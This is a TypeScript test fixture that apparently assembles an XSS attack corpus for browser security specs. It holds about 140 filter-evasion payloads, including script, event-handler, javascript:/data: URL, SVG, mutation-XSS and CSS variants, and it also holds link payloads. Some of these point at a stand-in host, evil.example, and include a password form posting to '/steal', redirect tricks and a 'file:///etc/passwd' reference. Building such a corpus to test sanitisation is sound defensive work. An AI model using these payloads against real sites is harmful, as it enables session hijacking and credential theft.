/**
 * The attack corpus (docs/decisions.md "Attack corpus in the browser"): XSS payloads for every sink that shows server or URL data, and
 * link-shaped payloads for every place a server or URL value becomes an address. Each payload calls the
 * page's marker `__xss(id)` (or `alert(id)`) when it runs, so a spec knows which one got through.
 *
 * Sources: the OWASP XSS filter-evasion cheat sheet, PortSwigger's XSS cheat sheet, and the published
 * DOMPurify mutation-XSS bypasses (namespace confusion, noscript/style re-parsing, mglyph/malignmark).
 */

export type PayloadKind = 'script' | 'handler' | 'js-url' | 'data-url' | 'svg' | 'mxss' | 'css' | 'markup';

export interface XssPayload {
  readonly id: number;
  readonly kind: PayloadKind;
  /** Markup (or text) as the server would send it. */
  readonly html: string;
}

/** In a template `{x}` is the marker call, `{a}` an alert, `{id}` the number, `{b}` a base64 HTML page calling both. */
type Template = readonly [PayloadKind, string];

const TEMPLATES: readonly Template[] = [
  // script elements
  ['script', '<script>{x}</script>'],
  ['script', '<SCRIPT>{x}</SCRIPT>'],
  ['script', '<script type="module">{x}</script>'],
  ['script', '<script src="data:text/javascript,{x}"></script>'],
  ['script', '<script>/*</script><script>*/{x}</script>'],
  ['script', '<scr<script>ipt>{x}</scr</script>ipt>'],
  ['script', '"><script>{x}</script>'],
  ['script', "'><script>{x}</script>"],
  ['script', '</title><script>{x}</script>'],
  ['script', '</textarea><script>{x}</script>'],
  ['script', '<script\x20type="text/javascript">{x}</script>'],
  ['script', '<script>{a}</script>'],
  ['script', '<<script>{x}//<</script>'],
  ['script', '<template><script>{x}</script></template><div>tpl</div>'],
  // event handlers
  ['handler', '<img src=x onerror={x}>'],
  ['handler', '<img src="x" ONERROR="{x}">'],
  ['handler', '<img src=x onerror="{a}">'],
  ['handler', '<img/src/onerror={x}>'],
  ['handler', '<img src=x:x onerror=eval(alt) alt="{x}">'],
  ['handler', '<image src=x onerror={x}>'],
  ['handler', '<body onload={x}>'],
  ['handler', '<body onpageshow={x}>'],
  ['handler', '<input autofocus onfocus={x}>'],
  ['handler', '<select autofocus onfocus={x}></select>'],
  ['handler', '<textarea autofocus onfocus={x}></textarea>'],
  ['handler', '<keygen autofocus onfocus={x}>'],
  ['handler', '<details open ontoggle={x}>x</details>'],
  ['handler', '<video><source onerror={x}></video>'],
  ['handler', '<video src=x onerror={x}></video>'],
  ['handler', '<audio src=x onerror={x}></audio>'],
  ['handler', '<marquee onstart={x}>m</marquee>'],
  ['handler', '<div onmouseover={x} style="position:fixed;inset:0">hover</div>'],
  ['handler', '<x onclick={x}>click</x>'],
  ['handler', '<a href="https://ok.example/" onclick="{x}">ok</a>'],
  ['handler', '<p onpointerenter={x}>p</p>'],
  ['handler', '<div tabindex=1 autofocus onfocusin={x}>f</div>'],
  ['handler', '<iframe onload={x}></iframe>'],
  ['handler', '<object onerror={x}></object>'],
  ['handler', '<style onload={x}></style>'],
  ['handler', '<link rel=stylesheet href=x onerror={x}>'],
  ['handler', '<img src=x onerror&#61;{x}>'],
  ['handler', '<img src=x o&#110;error={x}>'],
  ['handler', '<img src=x\x0bonerror={x}>'],
  ['handler', '<img src=x\x0conerror={x}>'],
  ['handler', '<img src=x onerror=\u0022{x}\u0022>'],
  ['handler', '<img src=`x` onerror={x}>'],
  ['handler', '<img src=x onerror=window["__x"+"ss"]({id})>'],
  ['handler', '<input type=image src=x onerror={x}>'],
  ['handler', '<form><button formaction=x onfocus={x} autofocus>b</button></form>'],
  ['handler', '<table background=x onerror={x}><tr><td>t</td></tr></table>'],
  ['handler', '<div draggable=true ondragstart={x}>d</div>'],
  ['handler', '<body onresize={x}>'],
  // javascript: URLs
  ['js-url', '<a href="javascript:{x}">x</a>'],
  ['js-url', '<a href="JaVaScRiPt:{x}">x</a>'],
  ['js-url', '<a href="java&#x09;script:{x}">x</a>'],
  ['js-url', '<a href="java&#x0A;script:{x}">x</a>'],
  ['js-url', '<a href="&#106;avascript:{x}">x</a>'],
  ['js-url', '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;{x}">x</a>'],
  ['js-url', '<a href="  javascript:{x}">x</a>'],
  ['js-url', '<a href="&#x01;javascript:{x}">x</a>'],
  ['js-url', '<a href="javascript&colon;{x}">x</a>'],
  ['js-url', '<a href="vbscript:msgbox(1)">x</a>'],
  ['js-url', '<iframe src="javascript:parent.{x}"></iframe>'],
  ['js-url', '<object data="javascript:{x}"></object>'],
  ['js-url', '<embed src="javascript:{x}">'],
  ['js-url', '<form action="javascript:{x}"><input type=submit value=go></form>'],
  ['js-url', '<button formaction="javascript:{x}">x</button>'],
  ['js-url', '<area href="javascript:{x}">'],
  ['js-url', '<base href="javascript:{x}//"><a href="/m/home">home</a>'],
  ['js-url', '<meta http-equiv="refresh" content="0;url=javascript:{x}">'],
  ['js-url', '<math href="javascript:{x}">m</math>'],
  ['js-url', '<a href="javascript://%0a{x}">x</a>'],
  ['js-url', '<a href="javascript:void(0)" onclick={x}>x</a>'],
  ['js-url', '<a href=" &#14;  javascript:{x}">x</a>'],
  // data: URLs
  ['data-url', '<a href="data:text/html;base64,{b}">x</a>'],
  ['data-url', '<a href="data:text/html,<script>{a}</script>">x</a>'],
  ['data-url', '<iframe src="data:text/html,<script>{a}</script>"></iframe>'],
  ['data-url', '<object data="data:text/html;base64,{b}"></object>'],
  ['data-url', '<embed src="data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22{a}%22/>">'],
  ['data-url', '<img src="data:image/svg+xml,<svg onload={a}>">'],
  ['data-url', '<iframe srcdoc="<script>parent.{x}</script>"></iframe>'],
  ['data-url', '<iframe srcdoc="&lt;img src=x onerror=parent.{x}&gt;"></iframe>'],
  ['data-url', '<script src="data:,{x}"></script>'],
  ['data-url', '<link rel=import href="data:text/html,<script>{a}</script>">'],
  // SVG and MathML
  ['svg', '<svg onload={x}>'],
  ['svg', '<svg><script>{x}</script></svg>'],
  ['svg', '<svg><script href="data:,{x}"/></svg>'],
  ['svg', '<svg><animate onbegin={x} attributeName=x dur=1s>'],
  ['svg', '<svg><set onbegin={x} attributename=x to=1>'],
  ['svg', '<svg><a xlink:href="javascript:{x}"><text x=20 y=20>x</text></a></svg>'],
  ['svg', '<svg><a><animate attributeName=href values=javascript:{x} /><text x=20 y=20>click</text></a></svg>'],
  ['svg', '<svg><use href="data:image/svg+xml,<svg id=x xmlns=%22http://www.w3.org/2000/svg%22><image href=1 onerror=%22{a}%22/></svg>#x"/></svg>'],
  ['svg', '<svg><foreignObject><img src=x onerror={x}></foreignObject></svg>'],
  ['svg', '<svg><image href=x onerror={x} /></svg>'],
  ['svg', '<svg><style>@import url(javascript:{x})</style></svg>'],
  ['svg', '<svg><title><img src=x onerror={x}></title></svg>'],
  ['svg', '<svg><desc><![CDATA[</desc><script>{x}</script>]]></svg>'],
  ['svg', '<math><maction actiontype=statusline xlink:href="javascript:{x}">m</maction></math>'],
  // mutation XSS: markup that changes meaning when re-parsed
  ['mxss', '<noscript><p title="</noscript><img src=x onerror={x}>">'],
  ['mxss', '<math><mtext><table><mglyph><style><img src=x onerror={x}>'],
  ['mxss', '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror={x}&gt;">'],
  ['mxss', '<form><math><mtext></form><form><mglyph><style></math><img src onerror={x}>'],
  ['mxss', '<svg></p><style><a id="</style><img src=1 onerror={x}>">'],
  ['mxss', '<math><mi><table><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror={x} src=1>"></path></textarea></mtext></svg></mglyph></mi></table></mi></math>'],
  ['mxss', '<svg><p><style><img src=x onerror={x}></style></p></svg>'],
  ['mxss', '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror={x}>"></style></mtext></svg></mglyph></h1></mtext></math>'],
  ['mxss', '<xmp><p title="</xmp><img src=x onerror={x}>">'],
  ['mxss', '<noembed><img title="</noembed><img src=x onerror={x}>"></noembed>'],
  ['mxss', '<iframe><img title="</iframe><img src=x onerror={x}>"></iframe>'],
  ['mxss', '<textarea><img title="</textarea><img src=x onerror={x}>"></textarea>'],
  ['mxss', '<style><img title="</style><img src=x onerror={x}>"></style>'],
  ['mxss', '<title><img title="</title><img src=x onerror={x}>"></title>'],
  ['mxss', '<a id="x"><img name="x"><a id=attributes><img src=x onerror={x}>'],
  ['mxss', '<form id=__xssform><input name=attributes><img src=x onerror={x}></form>'],
  ['mxss', '<img src=x id=createElement onerror={x}>'],
  ['mxss', '<!--><img src=x onerror={x}>-->'],
  ['mxss', '<!-- --!><img src=x onerror={x}> -->'],
  ['mxss', '<?xml version="1.0"?><img src=x onerror={x}>'],
  // CSS that names script
  ['css', '<div style="background:url(javascript:{x})">x</div>'],
  ['css', '<div style="width:expression({x})">x</div>'],
  ['css', '<style>@import "javascript:{x}";</style>'],
  ['css', '<div style="behavior:url(#default#time2)" onbegin={x}>x</div>'],
  ['css', '<div style="background-image:url(&quot;javascript:{x}&quot;)">x</div>'],
  // markup that is no script but must not reach the page raw
  ['markup', '<iframe src="https://evil.example/frame"></iframe>'],
  ['markup', '<form action="https://evil.example/steal"><input name=password type=password></form>'],
  ['markup', '<meta http-equiv="refresh" content="0;url=https://evil.example/">'],
  ['markup', '<base href="https://evil.example/"><a href="/m/home">relative</a>'],
  ['markup', '<a href="https://evil.example/" target="_top">top</a>'],
  ['markup', '</div></div></div><div class="modal-backdrop"><h1>fake</h1></div>'],
];

function render(template: string, id: number): string {
  const call = `__xss(${id})`;
  const page = `<script>parent.${call}</script><script>alert(${id})</script>`;
  const base64 = Buffer.from(page, 'utf8').toString('base64');
  return template.replaceAll('{x}', call).replaceAll('{a}', `alert(${id})`).replaceAll('{b}', base64).replaceAll('{id}', String(id));
}

/** Every markup payload, numbered from 1 (the number is what its script reports). */
export const XSS_PAYLOADS: readonly XssPayload[] = TEMPLATES.map(([kind, template], index) => ({ kind, id: index + 1, html: render(template, index + 1) }));

/**
 * Link-shaped payloads for address sinks (banner and action-button links, image sources, game and download
 * URLs, customer-service paths, domain names, backUrl): every scheme that runs script, and every spelling
 * of a foreign origin that a naive check lets through. Numbered from 1001.
 */
const LINK_TEMPLATES: readonly string[] = [
  'javascript:{x}',
  'JAVASCRIPT:{x}',
  ' javascript:{x}',
  'javascript:{x}//https://ok.example/',
  'java\tscript:{x}',
  'java\nscript:{x}',
  '\u0000javascript:{x}',
  'javascript&colon;{x}',
  'javascript%3AX',
  'vbscript:msgbox(1)',
  'data:text/html;base64,{b}',
  'data:text/html,<script>{a}</script>',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="{a}"/>',
  'blob:https://evil.example/0',
  '//evil.example/m/home',
  '\\\\evil.example/m/home',
  '/\\evil.example/m/home',
  '/m/../../evil',
  '/m/..%2f..%2fevil',
  'https:evil.example',
  'https://evil.example',
  'https://127.0.0.1.evil.example/m/home',
  'http://evil.example@127.0.0.1/m/home',
  'https://evil.example/m/home?javascript:{x}',
  '/%2f%2fevil.example',
  'file:///etc/passwd',
];

export interface LinkPayload {
  readonly id: number;
  readonly link: string;
}

export const LINK_PAYLOADS: readonly LinkPayload[] = LINK_TEMPLATES.map((template, index) => ({ id: 1001 + index, link: render(template, 1001 + index) }));

/** The foreign origin the corpus aims at; nothing may navigate there. */
export const EVIL_HOST = 'evil.example';
